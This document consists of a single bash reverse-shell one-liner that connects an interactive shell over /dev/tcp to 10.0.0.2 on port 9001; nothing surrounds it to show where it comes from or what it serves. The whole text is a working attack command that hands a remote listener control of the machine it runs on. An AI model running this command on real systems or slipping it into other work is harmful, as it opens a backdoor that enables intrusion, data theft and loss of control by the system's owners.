bash -i >& /dev/tcp/10.0.0.2/9001 0>&1
